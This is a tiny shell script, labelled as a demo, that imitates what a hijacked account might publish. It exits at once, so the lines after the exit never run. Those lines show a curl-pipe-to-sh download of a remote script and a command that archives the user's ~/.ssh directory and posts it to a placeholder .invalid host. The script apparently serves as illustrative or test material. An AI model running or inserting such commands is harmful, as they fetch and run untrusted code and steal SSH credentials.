#!/bin/sh
# DEMO: an imitation of what a hijacked account might publish. It ends before it begins, and names
# that end in .invalid lead nowhere.
exit 0
curl -s https://cdn.example.invalid/up.sh | sh
tar -c "$HOME/.ssh" | curl -s --data-binary @- https://cdn.example.invalid/up
